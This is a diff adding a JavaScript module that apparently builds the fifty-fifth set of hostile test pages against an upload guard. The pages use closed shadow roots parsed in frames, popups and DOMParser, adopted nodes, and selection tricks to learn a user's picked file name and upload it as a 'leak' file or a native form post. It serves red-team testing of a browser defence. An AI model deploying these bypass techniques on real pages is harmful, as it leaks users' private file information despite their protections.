@@ -1,0 +1,93 @@
+// Hostile pages for the fifty-fifth attack on the upload guard: the survey of
+// inserted nodes (insertions.js framesIn/survey, file-barrier.js
+// withholdInserted) after attack 54's fix (documents.js CLONES wraps the
+// Sanitizer API's setHTML/parseHTML). As in attack 54, Chromium's own picker
+// fills a file input i (attack 44's labeldeep: a span deep inside a DETACHED
+// label) that sits, detached, in a CLOSED shadow root the browser made from
+// declarative markup, reached by the page through its own custom element's
+// ElementInternals.shadowRoot; the host is then connected and the name read
+// (attack 48's findsel), or the form in the root posted natively. Here the
+// markup is parsed by ANOTHER document's parser (a frame's: srcdoc, blob:,
+// document.open()+write(), a popup's), whose closed roots are told (if at all)
+// only to that frame's own copy of the page-world script, and the host is
+// adopted into this document. A name learnt goes up as a text note
+// "leak-….txt". Served by server.mjs at /attack55-…; tests: attack55.test.mjs.
+
+import { attackPages, pickerWaysPage } from './uploads.mjs';
+
+/** Upload what was learnt (a name, or a bit) as a text note, once. */
+const leak = "const leak = (s, why) => { note(why + ' leak: ' + s); if (!window.once55) { window.once55 = 1; send([new File(['leaked: ' + s], 'leak-' + String(s).replace(/[^A-Za-z0-9._-]/g, '_') + '.txt', { type: 'text/plain' })], why); } };";
+
+/** attack 48's findsel on whatever is connected now. */
+const findsel = (why) => `getSelection().removeAllRanges(); const hit = window.find('.jpg'); const sel = getSelection(); note('find .jpg ' + hit);
+        try { sel.modify('move', 'backward', 'lineboundary'); sel.modify('extend', 'forward', 'lineboundary'); } catch (e) { note('modify threw ' + e.name); }
+        const got = String(sel); note('${why} ' + JSON.stringify(got));
+        if (/jpg/i.test(got)) leak(got, '${why}');`;
+
+/** A custom element x-h55 whose constructor keeps its ElementInternals (window.int55). */
+const define = "customElements.define('x-h55', class extends HTMLElement { constructor() { super(); try { window.int55 = this.attachInternals(); } catch (e) { note('internals threw ' + e.name); } } });";
+
+/** Markup of a host x-h55 with a declarative CLOSED shadow root. */
+const MARKUP = '<x-h55 id=h55><template shadowrootmode=closed><p>in root</p></template></x-h55>';
+const Q = JSON.stringify(MARKUP);
+
+/**
+ * `setup` runs at page load; `makeHost` (an expression: a function returning a DETACHED host of this document whose
+ * closed root the browser made) runs in the person's click; the label holding i is appended into the root, the deep
+ * span clicked: Chromium's own picker fills i, detached. On change: `connect`, then `find`.
+ */
+const closedPick = (why, makeHost, { setup = '', connect = 'document.body.append(H);', find = findsel(why), holder = 'if (root) root.append(l);' } = {}) => `
+      ${leak}
+      ${define}
+      ${setup}
+      document.getElementById('open').addEventListener('click', () => {
+        const l = document.createElement('label'); const i = document.createElement('input'); i.type = 'file'; i.name = 'photo';
+        const x = document.createElement('span'); let t = x; for (let k = 0; k < 70; k++) { const c = document.createElement('span'); t.append(c); t = c; } t.textContent = 'x';
+        l.append(i, x);
+        let H = null; try { H = (${makeHost})(); } catch (e) { note('host threw ' + e.name + ' ' + e.message); }
+        if (H) try { customElements.upgrade(H); } catch (e) { note('upgrade threw ' + e.name); }
+        const root = window.int55 && window.int55.shadowRoot; note('host ' + (H && H.localName) + ' root ' + (root && root.mode) + ' connected ' + (H && H.isConnected) + ' open ' + (H && H.shadowRoot) + ' doc ' + (H && H.ownerDocument === document));
+        ${holder}
+        i.addEventListener('change', () => { note('change'); try { ${connect} i.style.width = '600px'; note('i connected ' + i.isConnected + ' w ' + i.offsetWidth);
+          ${find} } catch (e) { note('threw ' + e.name + ' ' + e.message); } });
+        try { t.click(); } catch (e) { note('click threw ' + e.name); }
+      });`;
+
+/** The label put in a multipart form (posting to /upload into a hidden frame) inside the root, with a submit button b. */
+const inForm = "const fr = document.createElement('iframe'); fr.name = 'sink55'; fr.style.display = 'none'; document.body.append(fr); const f = document.createElement('form'); f.method = 'post'; f.enctype = 'multipart/form-data'; f.action = '/upload'; f.target = 'sink55'; const b = document.createElement('button'); b.type = 'submit'; b.textContent = 'go'; f.append(l, b); window.b55 = b; if (root) root.append(f);";
+/** A click on b that stays in its shadow tree (not composed): the form is posted natively. */
+const quietClick = "window.b55.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true })); note('posted');";
+
+/** A frame made at load (hidden) holding the markup, by `src` (srcdoc or an address). */
+const frameAt = (attr, value) => `const fr55 = document.createElement('iframe'); fr55.style.display = 'none'; fr55.${attr} = ${value}; fr55.addEventListener('load', () => note('frame loaded ' + !!(fr55.contentDocument && fr55.contentDocument.getElementById('h55')))); document.body.append(fr55); window.fr55 = fr55;`;
+const fromFrame = "() => { const d = window.fr55.contentDocument; const h = d && d.getElementById('h55'); note('in frame ' + !!h); return h && document.adoptNode(h); }";
+/** In the click: a frame's document opened and written (readyState 'loading': documents.js sends no shadow-scan). */
+const openWrite = `() => { const d = window.fr55.contentDocument; d.open(); d.write(${Q}); const h = d.getElementById('h55'); note('written ' + !!h + ' ' + d.readyState); d.close(); return h && document.adoptNode(h); }`;
+const blankFrame = "const fr55 = document.createElement('iframe'); fr55.style.display = 'none'; document.body.append(fr55); window.fr55 = fr55;";
+/** The same in THIS document's parser: written in a frame's document as it loads? No: a popup's, opened and written in the click. */
+const popupWrite = `() => { const w = window.open('', '_blank', 'popup'); const d = w.document; d.open(); d.write(${Q}); const h = d.getElementById('h55'); d.close(); const a = h && document.adoptNode(h); w.close(); return a; }`;
+const blobSrc = `URL.createObjectURL(new Blob([${Q}], { type: 'text/html' }))`;
+const domParser = `() => { const doc = new DOMParser().parseFromString(${Q}, 'text/html'); const h = doc.getElementById('h55'); note('domparser root kept ' + !!(h && h.firstElementChild === null)); return h && document.adoptNode(h); }`;
+
+/** `make`, then the frame it read from removed (with its realm, its guard's listeners). */
+const gone = (make) => `() => { const h = (${make})(); window.fr55.remove(); note('frame gone'); return h; }`;
+
+const HTML_WAYS = {
+  srcdoc: closedPick('srcdoc', fromFrame, { setup: frameAt('srcdoc', Q) }),
+  srcdocpost: closedPick('srcdocpost', fromFrame, { setup: frameAt('srcdoc', Q), holder: inForm, find: quietClick }),
+  blob: closedPick('blob', fromFrame, { setup: frameAt('src', blobSrc) }),
+  blobpost: closedPick('blobpost', fromFrame, { setup: frameAt('src', blobSrc), holder: inForm, find: quietClick }),
+  openwrite: closedPick('openwrite', openWrite, { setup: blankFrame }),
+  openwritepost: closedPick('openwritepost', openWrite, { setup: blankFrame, holder: inForm, find: quietClick }),
+  // The same, the frame taken out in the click right after the host was adopted: its guard (which listens in the root
+  // it was told of) is gone with it.
+  srcdocpostgone: closedPick('srcdocpostgone', gone(fromFrame), { setup: frameAt('srcdoc', Q), holder: inForm, find: quietClick }),
+  openwritepostgone: closedPick('openwritepostgone', gone(openWrite), { setup: blankFrame, holder: inForm, find: quietClick }),
+  // open()+write() on a document with no browsing context (createHTMLDocument): does it parse at all?
+  implwrite: closedPick('implwrite', `() => { const d = document.implementation.createHTMLDocument(''); d.open(); d.write(${Q}); const h = d.getElementById('h55'); note('impl written ' + !!h); d.close(); return h && document.adoptNode(h); }`),
+  popupwrite: closedPick('popupwrite', popupWrite),
+  domparser: closedPick('domparser', domParser),
+};
+const { names: PICKER_WAYS, page: picker } = pickerWaysPage(HTML_WAYS);
+export { PICKER_WAYS };
+export const attack55Page = attackPages(55, picker, {});
